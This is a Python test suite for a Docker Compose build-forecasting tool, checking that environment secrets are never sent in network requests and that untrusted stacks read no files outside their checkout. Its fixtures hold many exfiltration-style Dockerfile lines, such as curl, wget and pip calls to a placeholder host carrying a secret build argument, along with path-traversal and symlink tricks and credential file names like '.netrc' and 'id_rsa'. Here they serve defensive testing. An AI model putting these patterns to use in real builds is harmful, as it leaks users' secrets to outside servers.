"""No value of the environment goes into a request, and an untrusted stack has nobody asked and nothing outside read."""

from __future__ import annotations

import contextlib
import os
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from tests.unit.adapters.file_server import Index, serving

from tonnage.errors import UsageError
from tonnage.flows.forecast import forecast
from tonnage.flows.requests import ForecastOptions, StackFlags
from tonnage.sources.dockerfile.platforms import is_platform
from tonnage.wiring.ports import Ports

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from tests.unit.adapters.file_server import FileServer

    from tonnage.model.forecast.fit import ForecastAnswer

    Forecast = Callable[..., ForecastAnswer]

SECRET = "qq7zx-vv9kw"
OTHER_SECRET = "kk8wy-rr5jp"
COMPOSE = """\
name: shop
services:
  web:
    build:
      context: web
      args:
        A: ${MY_SECRET}
"""
# What a Dockerfile does with a build argument A; HOST is a server, PLACE the same without its scheme.
WAYS = {
    "ADD": "ADD HOST/$A /x",
    "ADD in braces": "ADD HOST/${A}.tar /x",
    "ADD with a replaced piece": "ADD HOST/${A/7/8} /x",
    "ADD without the first letter": "ADD HOST/${A#?} /x",
    "ADD without the last letter": "ADD HOST/${A%?} /x",
    "ADD with a word when set": "ADD HOST/${A:+with-$A} /x",
    "ENV": "ENV B=x$A\nADD HOST/$B /x",
    "default of ARG": "ARG U=HOST/$A\nADD $U /x",
    "curl": "RUN curl -O HOST/$A",
    "wget": 'RUN wget "HOST/${A}"',
    "query": 'RUN curl -o x "HOST/x?token=$A"',
    "user": "RUN curl -O http://$A@PLACE/x",
    "variable of the shell": "RUN B=$A && curl -O HOST/$B",
    "loop": "RUN for each in $A; do curl -O HOST/$each; done",
    "another shell": 'RUN sh -c "curl -O HOST/$A"',
    "here-document": "RUN <<END\ncurl -O HOST/$A\nEND",
    "stage": "FROM scratch AS other\nARG A\nENV B=$A\nFROM other\nADD HOST/$B /x",
    "index": "RUN pip install --index-url HOST/$A/simple thing",
    "extra index": "RUN pip install --extra-index-url HOST/$A/simple thing",
    "page of links": "RUN pip install --no-index --find-links HOST/$A/ thing",
    "name of a package": "RUN pip install --index-url HOST/simple thing-$A",
    "address of a wheel": 'RUN pip install "thing @ HOST/$A/thing-1.0-py3-none-any.whl"',
    "requirement file": "COPY r.txt .\nRUN pip install -r r.txt",
    "constraint file": "COPY r.txt .\nRUN pip install --index-url HOST/simple -c r.txt thing",
    "index of a requirement file": "COPY i.txt .\nRUN pip install -r i.txt",
    "here-document that is copied": "COPY <<END r2.txt\nthing @ HOST/$A/thing-1.0-py3-none-any.whl\nEND\n"
    "RUN pip install -r r2.txt",
    "variable of pip": "ENV PIP_INDEX_URL=HOST/$A/simple\nRUN pip install thing",
    "base image": "FROM PLACE/x:$A",
    "repository of a base image": "FROM PLACE/$A/x",
    "image that is copied from": "FROM PLACE/x:$A AS far\nFROM scratch\nCOPY --from=far /a /b",
}
COMPOSE_WAYS = {
    "image": "services:\n  web:\n    image: PLACE/x:${MY_SECRET}\n",
    "image with a default": "services:\n  web:\n    image: PLACE/x:${MY_SECRET:-1}\n",
    "Dockerfile in place": 'services:\n  web:\n    build:\n      dockerfile_inline: "FROM scratch\\n'
    'ADD HOST/${MY_SECRET} /x\\n"\n',
    "named context": "services:\n  web:\n    build:\n      context: web\n      additional_contexts:\n"
    "        far: docker-image://PLACE/x:${MY_SECRET}\n",
    "arguments as a list": "services:\n  web:\n    build: {context: web, args: [MY_SECRET]}\n",
    "argument without a value": "services:\n  web:\n    build: {context: web, args: {MY_SECRET: }}\n",
    "written list": 'services:\n  web:\n    build: {context: web, args: ["MY_SECRET=x${MY_SECRET}"]}\n',
    "anchor": "x-args: &args {MY_SECRET: '${MY_SECRET}'}\nservices:\n  web:\n    build: {context: web, args: *args}\n",
    "file of variables": "services:\n  web:\n    build: {context: web, args: {MY_SECRET: '${DERIVED}'}}\n",
    "extended service": "services:\n  base:\n    build: {context: web, args: [MY_SECRET]}\n    profiles: [never]\n"
    "  web:\n    extends: base\n    profiles: !reset []\n",
    "included file": "include: [more.yaml]\n",
    "image of another service": "services:\n  base:\n    image: shop-base\n"
    "    build: {context: web, args: [MY_SECRET]}\n  web:\n    build:\n      dockerfile_inline: FROM shop-base\n",
}


@pytest.fixture
def foreign() -> Iterator[FileServer]:
    with serving("127.0.0.2") as server:
        yield server


@pytest.fixture
def tried(tmp_path: Path) -> Forecast:
    """Forecast a stack of files with a secret in the environment, without an engine."""
    (tmp_path / "shop" / "web").mkdir(parents=True)

    def run(
        files: dict[str, str], *, untrusted: bool = False, ask_hosts: str = "", **environment: str
    ) -> ForecastAnswer:
        for name, text in files.items():
            path = tmp_path / "shop" / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
        around = {
            "PATH": os.environ["PATH"], "HOME": str(tmp_path), "PIP_CONFIG_FILE": "/dev/null", "MY_SECRET": SECRET,
            "DOCKER_HOST": f"unix://{tmp_path}/nowhere.sock", "TONNAGE_CACHE_DIR": str(tmp_path / "cache"),
            "TONNAGE_STATE_DIR": str(tmp_path / "state"), **environment,
        }  # fmt: skip
        flags = StackFlags(
            files=(str(tmp_path / "shop" / "compose.yaml"),),
            untrusted=untrusted,
            settings={"ask-hosts": ask_hosts} if ask_hosts else {},
        )
        return forecast(Ports(around), flags, ForecastOptions(python="3.12"))

    return run


def stack(way: str, server: FileServer) -> dict[str, str]:
    """Return the files of a stack whose Dockerfile does something with a build argument."""
    text = WAYS[way]
    head = "" if text.startswith("FROM") else "FROM scratch\nARG A\n"
    head = "ARG A\n" if "FROM PLACE" in text else head
    return filled(
        {
            "compose.yaml": COMPOSE,
            "web/Dockerfile": f"{head}{text}\n",
            "web/r.txt": "thing @ HOST/${A}/thing-1.0-py3-none-any.whl\n",
            "web/i.txt": "--index-url HOST/${A}/simple\nthing\n",
        },
        server,
    )


def written(way: str, server: FileServer) -> dict[str, str]:
    dockerfile = "FROM far\n" if way == "named context" else "FROM scratch\nARG MY_SECRET\nADD HOST/$MY_SECRET /x\n"
    return filled(
        {
            "compose.yaml": f"name: shop\n{COMPOSE_WAYS[way]}",
            ".env": "DERIVED=x${MY_SECRET}\n",
            "more.yaml": "services:\n  web:\n    build: {context: web, args: [MY_SECRET]}\n",
            "web/Dockerfile": dockerfile,
        },
        server,
    )


def filled(files: dict[str, str], server: FileServer) -> dict[str, str]:
    place = server.address.removeprefix("http://")
    return {name: text.replace("HOST", server.address).replace("PLACE", place) for name, text in files.items()}


def sent(server: FileServer) -> list[str]:
    """Return the requests that hold a piece of the secret."""
    pieces = [SECRET[at : at + 3] for at in range(len(SECRET) - 2)]
    told = [f"{path} {headers}" for (path, _), headers in zip(server.asked, server.headers, strict=True)]
    return [each for each in told if any(piece in each for piece in pieces)]


@pytest.mark.parametrize("way", WAYS)
def test_no_value_of_the_environment_is_sent(tried: Forecast, foreign: FileServer, way: str) -> None:
    answer = tried(stack(way, foreign))
    assert not sent(foreign)
    (service,) = answer.stack.services
    assert not service.broken
    assert "(MY_SECRET)" in " ".join((*service.failures, *service.notes))


@pytest.mark.parametrize("way", COMPOSE_WAYS)
def test_no_value_of_the_environment_is_sent_whatever_way_it_came_into_the_stack(
    tried: Forecast, foreign: FileServer, way: str
) -> None:
    answer = tried(written(way, foreign))
    assert not sent(foreign)
    assert any("MY_SECRET" in text for each in answer.stack.services for text in (*each.failures, *each.notes))


@pytest.mark.parametrize("way", [*WAYS, *COMPOSE_WAYS])
def test_what_the_user_lets_be_asked_is_asked_with_the_value(tried: Forecast, foreign: FileServer, way: str) -> None:
    files = stack(way, foreign) if way in WAYS else written(way, foreign)
    tried(files, ask_hosts="all")
    # The path of an index is asked before the name of a package, and a query is not noted by the server.
    assert sent(foreign) or way in {"query", "user"}


PIECES = st.text(alphabet="qv79z-x*?", max_size=4)
SUBSTITUTIONS = st.one_of(
    st.just("$NAME"),
    st.sampled_from(["${NAME:-d}", "${NAME:+w$NAME}", "${NAME-d}", "${NAME+w}"]),
    st.builds("${{NAME{}{}}}".format, st.sampled_from(["#", "##", "%", "%%"]), PIECES),
    st.builds("${{NAME{}{}/{}}}".format, st.sampled_from(["/", "//"]), PIECES, st.sampled_from(["", "r"])),
)


@given(chain=st.lists(SUBSTITUTIONS, min_size=1, max_size=3))
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@example(chain=["${NAME#q*}", "x$NAME"])
@example(chain=["${NAME/*7/r}"])
def test_two_values_of_a_variable_lead_to_the_same_requests(
    tried: Forecast, foreign: FileServer, chain: list[str]
) -> None:
    lines = [f"ENV V{at + 1}={each.replace('NAME', f'V{at}')}" for at, each in enumerate(chain)]
    dockerfile = "\n".join(("FROM scratch", "ARG V0", *lines, f"ADD HOST/x$V{len(chain)} /x", ""))
    files = filled({"compose.yaml": COMPOSE.replace("A:", "V0:"), "web/Dockerfile": dockerfile}, foreign)
    asked = []
    for secret in (SECRET, SECRET[::-1]):
        foreign.asked.clear()
        with contextlib.suppress(UsageError):
            tried(files, MY_SECRET=secret)
        asked.append({path for path, _ in foreign.asked})
    assert asked[0] == asked[1]


@pytest.mark.parametrize(
    "way",
    ["ADD", "wget", "index", "page of links", "address of a wheel", "requirement file", "base image", "image"],
)
def test_of_an_untrusted_stack_no_server_of_its_choice_is_asked(tried: Forecast, foreign: FileServer, way: str) -> None:
    files = stack(way, foreign) if way in WAYS else written(way, foreign)
    files = {name: text.replace(":${MY_SECRET}", ":${MY_SECRET:-1}") for name, text in files.items()}
    files = {name: text.replace("ARG A\n", "ARG A=1\n") for name, text in files.items()}
    tried(files, untrusted=True)
    assert not foreign.asked


def test_what_holds_no_value_is_asked_beside_what_does(tried: Forecast, foreign: FileServer) -> None:
    foreign.add("/plain", b"x" * 4099)
    dockerfile = "FROM scratch\nARG A\nADD HOST/plain /x\nADD HOST/$A HOST/plain /y/\nRUN curl -O HOST/plain\n"
    tried(filled({"compose.yaml": COMPOSE, "web/Dockerfile": dockerfile}, foreign))
    assert {path for path, _ in foreign.asked} == {"/plain"}


def test_a_value_may_choose_between_addresses_that_are_written(tried: Forecast, foreign: FileServer) -> None:
    dockerfile = (
        "FROM scratch\nARG A\nCOPY requirements .\n"
        'RUN if [ "$A" = cpu ]; then curl -O HOST/small; else curl -O HOST/large; fi\n'
        "RUN pip install --index-url HOST/simple -r ${A}.txt\n"
    )
    files = {"compose.yaml": COMPOSE, "web/Dockerfile": dockerfile, "web/requirements/cpu.txt": "small-thing\n"}
    tried(filled(files, foreign), MY_SECRET="cpu")
    assert {path for path, _ in foreign.asked} == {"/small", "/simple/small-thing/"}


def test_an_index_may_be_a_value_as_a_whole(tried: Forecast, foreign: FileServer) -> None:
    index = Index(foreign)
    index.wheel("thing", "1.0")
    dockerfile = "FROM scratch\nARG TORCH_INDEX_URL\nRUN pip install --index-url $TORCH_INDEX_URL thing\n"
    compose = "name: shop\nservices:\n  web:\n    build: web\n"
    answer = tried({"compose.yaml": compose, "web/Dockerfile": dockerfile}, TORCH_INDEX_URL=index.url)
    (service,) = answer.stack.services
    assert not service.failures
    dockerfile = f"FROM scratch\nARG TORCH_INDEX_URL\nADD {foreign.address}/$TORCH_INDEX_URL /x\n"
    foreign.asked.clear()
    tried({"compose.yaml": compose, "web/Dockerfile": dockerfile}, TORCH_INDEX_URL="https://example.org/qq7zx")
    assert not foreign.asked


def test_values_of_the_project_are_no_values_of_the_environment(tried: Forecast, foreign: FileServer) -> None:
    files = {
        "compose.yaml": COMPOSE.replace("${MY_SECRET}", "${OWN}-${NOBODYS:-default}"),
        ".env": "OWN=of-the-file\n",
        "web/Dockerfile": f"FROM scratch\nARG A\nADD {foreign.address}/$A /x\n",
    }
    tried(files)
    assert {path for path, _ in foreign.asked} == {"/of-the-file-default"}


def test_of_an_untrusted_stack_the_users_own_index_is_asked_and_where_its_files_lie(tried: Forecast) -> None:
    with serving() as mine:
        index = Index(mine)
        index.wheel("thing", "1.0")
        files = {"compose.yaml": COMPOSE, "web/Dockerfile": "FROM scratch\nRUN pip install thing\n"}
        answer = tried(files, untrusted=True, PIP_INDEX_URL=index.url)
        (service,) = answer.stack.services
        assert not service.failures
        assert any(path.endswith(".whl") for path, _ in mine.asked)


@pytest.mark.parametrize("wanted", ["thing", "thing @ MINE/files/simple/thing-1.0-py3-none-any.whl"])
def test_of_an_untrusted_stack_the_resolver_is_led_to_no_further_address(
    tried: Forecast, foreign: FileServer, wanted: str
) -> None:
    with serving() as mine:
        index = Index(mine)
        index.wheel("thing", "1.0", requires=(f"further @ {foreign.address}/further-1.0-py3-none-any.whl",))
        dockerfile = f'FROM scratch\nRUN pip install "{wanted.replace("MINE", mine.address)}"\n'
        tried({"compose.yaml": COMPOSE, "web/Dockerfile": dockerfile}, untrusted=True, PIP_INDEX_URL=index.url)
        assert mine.asked
    assert not foreign.asked


@pytest.mark.parametrize("named", ["", "127.0.0.2", "all"])
def test_of_an_untrusted_stack_no_server_near_this_machine_is_asked_also_where_it_is_named(
    tried: Forecast, foreign: FileServer, named: str
) -> None:
    files = {"compose.yaml": COMPOSE, "web/Dockerfile": "FROM scratch\nADD HOST/x /x\nRUN curl -O HOST/y\n"}
    answer = tried(filled(files, foreign), untrusted=True, ask_hosts=named)
    assert not foreign.asked
    (service,) = answer.stack.services
    assert any("127.0.0.2" in note and "is not asked" in note for note in service.notes)


OUTSIDE = {
    "context": {"compose.yaml": "services:\n  web:\n    build: ../other\n"},
    "root of the machine": {"compose.yaml": "services:\n  web:\n    build: {context: /, dockerfile_inline: FROM x}\n"},
    "Dockerfile": {
        "compose.yaml": "services:\n  web:\n    build: {context: web, dockerfile: ../../other/Dockerfile}\n"
    },
    "named context": {
        "compose.yaml": "services:\n  web:\n    build: {context: web, additional_contexts: {o: ../other}}\n"
    },
    "environment file": {"compose.yaml": "services:\n  web:\n    image: scratch\n    env_file: ../other/secret.env\n"},
    "labels": {"compose.yaml": "services:\n  web:\n    image: scratch\n    label_file: ../other/secret.env\n"},
    "included": {"compose.yaml": "include: [../other/compose.yaml]\n"},
    "extended": {"compose.yaml": "services:\n  web:\n    extends: {file: ../other/compose.yaml, service: web}\n"},
    "named by .env": {"compose.yaml": "services: {}\n", ".env": "COMPOSE_FILE=../other/compose.yaml\n"},
}


@pytest.mark.parametrize("way", OUTSIDE)
def test_of_an_untrusted_stack_nothing_outside_of_the_checkout_is_read(
    tried: Forecast, tmp_path: Path, way: str
) -> None:
    other = tmp_path / "other"
    other.mkdir()
    for name, text in (
        ("Dockerfile", f"FROM scratch\nENV B={SECRET}\n"),
        ("secret.env", f"{SECRET} is no line\n"),
        ("compose.yaml", f"services:\n  web:\n    image: {SECRET}:latest:2\n"),
    ):
        (other / name).write_text(text, encoding="utf-8")
    (tmp_path / "shop" / "web" / "Dockerfile").write_text("FROM scratch\n", encoding="utf-8")
    if way == "named by .env":
        monkey = StackFlags(project_directory=str(tmp_path / "shop"), untrusted=True)
        for name, text in OUTSIDE[way].items():
            (tmp_path / "shop" / name).write_text(text, encoding="utf-8")
        with pytest.raises(UsageError) as refused:
            forecast(Ports({"HOME": str(tmp_path)}), monkey, ForecastOptions())
    else:
        with pytest.raises(UsageError) as refused:
            tried(OUTSIDE[way], untrusted=True)
    assert SECRET not in str(refused.value)


def test_of_an_untrusted_stack_links_out_of_the_checkout_are_not_followed(tried: Forecast, tmp_path: Path) -> None:
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "Dockerfile").write_text(f"{SECRET}\n", encoding="utf-8")
    for name in ("link", "away"):
        (tmp_path / "shop" / name).symlink_to(tmp_path / "other")
    (tmp_path / "shop" / "web" / "Dockerfile").symlink_to(tmp_path / "other" / "Dockerfile")
    for build in ("link", "web", "{context: web, dockerfile: ../away/Dockerfile}"):
        with pytest.raises(UsageError, match="outside") as refused:
            tried({"compose.yaml": f"services:\n  web:\n    build: {build}\n"}, untrusted=True)
        assert SECRET not in str(refused.value)


def test_the_checkout_is_where_git_says_it_begins(tried: Forecast, tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "Dockerfile").write_text("FROM scratch\n", encoding="utf-8")
    answer = tried({"compose.yaml": "services:\n  web:\n    build: ../other\n"}, untrusted=True)
    assert [each.service for each in answer.stack.services] == ["web"]


def test_an_untrusted_stack_starts_no_base_image(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="--probe"):
        forecast(Ports({"HOME": str(tmp_path)}), StackFlags(untrusted=True), ForecastOptions(probe=True))


def outside_ways(other: str) -> dict[str, dict[str, str]]:
    """Return stacks that put what a file outside of the project says into a build argument A."""
    web = "services:\n  web:\n    build: {context: web, args: {A: 'x-${TOKEN}'}}\n"
    return {
        "file of variables": {"compose.yaml": f"include: [{{path: more.yaml, env_file: {other}/t.env}}]\n"},
        "directory": {"compose.yaml": f"include: [{{path: more.yaml, project_directory: {other}}}]\n"},
        "extended": {
            "compose.yaml": f"services:\n  web:\n    extends: {{file: {other}/o.yaml, service: map}}\n"
            "    build: {context: web}\n"
        },
        "extended list": {
            "compose.yaml": f"services:\n  web:\n    extends: {{file: {other}/o.yaml, service: list}}\n"
            "    build: {context: web}\n"
        },
        "link": {"compose.yaml": web},
    }


@pytest.mark.parametrize("way", outside_ways(""))
def test_no_value_of_a_file_outside_is_sent(tried: Forecast, foreign: FileServer, tmp_path: Path, way: str) -> None:
    other = tmp_path / "other"
    other.mkdir()
    for name in (".env", "t.env"):
        (other / name).write_text(f"TOKEN={OTHER_SECRET}\n", encoding="utf-8")
    (other / "o.yaml").write_text(
        f"services:\n  map: {{build: {{context: ., args: {{A: {OTHER_SECRET}}}}}}}\n"
        f"  list: {{build: {{context: ., args: [A={OTHER_SECRET}]}}}}\n",
        encoding="utf-8",
    )
    if way == "link":
        (tmp_path / "shop" / ".env").symlink_to(other / "t.env")
    dockerfile = "FROM scratch\nARG A\nADD HOST/plain HOST/$A /x/\n"
    files = {**outside_ways(str(other))[way], "web/Dockerfile": dockerfile}
    files["more.yaml"] = "services:\n  web:\n    build: {context: SHOP/web, args: {A: 'x-${TOKEN}'}}\n"
    files["more.yaml"] = files["more.yaml"].replace("SHOP", str(tmp_path / "shop"))
    answer = tried(filled(files, foreign))
    assert {path for path, _ in foreign.asked} == {"/plain"}
    (service,) = answer.stack.services
    assert "(TOKEN)" in " ".join(service.notes) or "(a file outside of the project)" in " ".join(service.notes)


def test_a_value_reaches_no_request_as_a_platform(tried: Forecast, foreign: FileServer) -> None:
    dockerfile = "FROM scratch\nARG TARGETARCH TARGETPLATFORM\nADD HOST/$TARGETARCH HOST/$TARGETPLATFORM /x/\n"
    compose = "services:\n  web:\n    build: {context: web, platforms: ['linux/${MY_SECRET}']}\n"
    files = filled({"compose.yaml": compose, "web/Dockerfile": dockerfile}, foreign)
    answer = tried(files)
    assert not foreign.asked
    assert "nothing is built for the platform" in answer.stack.services[0].failures[0]
    tried(files, MY_SECRET="arm64")
    assert {path for path, _ in foreign.asked} == {"/arm64", "/linux/arm64"}


@pytest.mark.parametrize(
    ("text", "is_one"),
    [
        ("linux/amd64", True), ("linux/arm/v7", True), ("arm64", True), ("windows(10.0.17763)/amd64", True),
        ("linux/amd64/v2", True), (SECRET, False), (f"linux/{SECRET}", False), (f"{SECRET}/amd64", False),
        (f"linux/amd64/{SECRET}", False), (f"linux/amd64/v2/{SECRET}", False), ("", False), ("linux/", False),
    ],
)  # fmt: skip
def test_a_platform_is_one_of_those_that_there_are(text: str, is_one: bool) -> None:  # noqa: FBT001 - one of a table
    assert is_platform(text) is is_one


@pytest.mark.parametrize(
    "service",
    ["build: {context: web, args: {A: '${COMPOSE_PROJECT_NAME}'}}", "image: PLACE/x:${COMPOSE_PROJECT_NAME}"],
)
def test_no_value_is_sent_as_the_name_of_the_stack(tried: Forecast, foreign: FileServer, service: str) -> None:
    files = {
        "compose.yaml": f"name: a${{MY_SECRET}}\nservices:\n  web:\n    {service}\n",
        "web/Dockerfile": "FROM scratch\nARG A\nADD HOST/plain HOST/$A /x/\n",
    }
    tried(filled(files, foreign))
    assert not sent(foreign)
    files["compose.yaml"] = files["compose.yaml"].replace("${MY_SECRET}", "bc")
    tried(filled(files, foreign))
    assert any("abc" in path for path, _ in foreign.asked)


@pytest.mark.parametrize("untrusted", [False, True])
def test_a_variable_is_not_the_stacks_own_by_the_beginning_of_its_name(
    tried: Forecast, foreign: FileServer, *, untrusted: bool
) -> None:
    files = {
        "compose.yaml": COMPOSE.replace("MY_SECRET", "COMPOSE_TOKEN:-1"),
        "web/Dockerfile": "FROM scratch\nARG A\nADD HOST/$A /x\n",
    }
    answer = tried(filled(files, foreign), untrusted=untrusted, COMPOSE_TOKEN=SECRET)
    assert not foreign.asked
    assert untrusted or "(COMPOSE_TOKEN)" in " ".join(answer.stack.services[0].notes)


@pytest.mark.parametrize("name", ["token", ".netrc", "id_rsa", "secret.txt", "credentials.toml", "requirements.env"])
def test_a_file_beside_the_project_is_no_requirement_file(
    tried: Forecast, foreign: FileServer, tmp_path: Path, name: str
) -> None:
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / name).write_text(f"{SECRET}\n--{SECRET} x\n", encoding="utf-8")
    compose = f"services:\n  web:\n    build: {{context: web, additional_contexts: {{o: {tmp_path}/other}}}}\n"
    dockerfile = f"FROM scratch\nCOPY --from=o {name} /r.txt\nRUN pip install --index-url HOST/simple -r /r.txt\n"
    answer = tried(filled({"compose.yaml": compose, "web/Dockerfile": dockerfile}, foreign))
    assert not foreign.asked
    assert SECRET not in str(answer)
    assert any(f"{name} is not read" in note for note in answer.stack.services[0].notes)


@pytest.mark.parametrize("name", ["requirements.txt", "requirements/base.in", "dev-constraints.txt", "reqs.txt"])
def test_requirements_beside_a_project_are_read_and_not_quoted(
    tried: Forecast, foreign: FileServer, tmp_path: Path, name: str
) -> None:
    index = Index(foreign)
    index.wheel("thing", "1.0")
    path = tmp_path / "other" / name
    path.parent.mkdir(parents=True)
    path.write_text(f"thing\n--{SECRET} x\n", encoding="utf-8")
    compose = (
        f"services:\n  web:\n    build: {{context: {tmp_path}/other, dockerfile: {tmp_path}/shop/web/Dockerfile}}\n"
    )
    dockerfile = f"FROM scratch\nCOPY . /o\nRUN pip install --index-url {index.url} -r /o/{name}\n"
    answer = tried({"compose.yaml": compose, "web/Dockerfile": dockerfile})
    assert "/simple/thing/" in {asked for asked, _ in foreign.asked}
    assert not answer.stack.services[0].failures
    assert SECRET not in str(answer)


def test_a_value_that_chooses_files_lets_every_install_be_asked_for(tried: Forecast, foreign: FileServer) -> None:
    index = Index(foreign)
    index.wheel("thing", "1.0", files={"thing/x.bin": b"x" * 100_003})
    index.wheel("more", "1.0", requires=("thing",), files={"more/x.bin": b"y" * 200_003})
    install = f"RUN pip install --no-cache-dir --index-url {index.url} -r"
    answer = tried(
        {
            "compose.yaml": COMPOSE,
            "web/Dockerfile": f"FROM scratch\nARG A\nCOPY . /\n{install} /$A.txt\n{install} /more-$A.txt\n",
            f"web/{SECRET}.txt": "thing\n",
            f"web/more-{SECRET}.txt": "more\n",
        }
    )
    (service,) = answer.stack.services
    assert not service.failures
    assert [[each.name for each in step.contributors if " 1.0" in each.name] for step in service.steps[-2:]] == [
        ["thing 1.0"],
        ["more 1.0"],
    ]
    assert not sent(foreign)
